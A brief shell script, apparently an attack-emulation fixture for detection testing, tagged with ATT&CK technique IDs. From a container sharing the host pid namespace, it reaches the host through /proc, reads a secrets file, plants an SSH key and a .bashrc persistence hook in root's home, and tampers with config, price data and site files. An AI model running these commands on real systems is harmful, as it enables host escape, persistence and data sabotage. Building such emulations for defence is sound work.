#!/bin/sh
# Runs in a container that shares the host's pid namespace. $PID is a process of the host; nothing is entered: the
# host's files are reached through its entry in /proc.
R=/proc/$PID/root/srv/host
echo "@T1611 the host's root is looked at through /proc/$PID/root"
ls $R > /tmp/ls.txt
echo "@T1552.001 credentials read"
cat $R/srv/data/secrets/db-password > /dev/null
sleep 0.2
echo "@T1098.004 key added"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEludHJ1ZGVyTm90UmVhbDAwMDAwMDAwMDAwMDAw intruder' >> $R/root/.ssh/authorized_keys
echo 'export PROMPT_COMMAND=/opt/.p' >> $R/root/.bashrc
echo "@T1565.001 stored data changed"
cd /proc/$PID/cwd/srv/host/srv/data
echo 'upstream = 203.0.113.66' >> app.conf
sed -i 's/^kiln,.*/kiln,1/' prices.csv
cd /
mv $R/srv/data/logo.png $R/srv/data/logo.old
rm $R/srv/www/robots.txt
sleep 0.2
echo "@end"
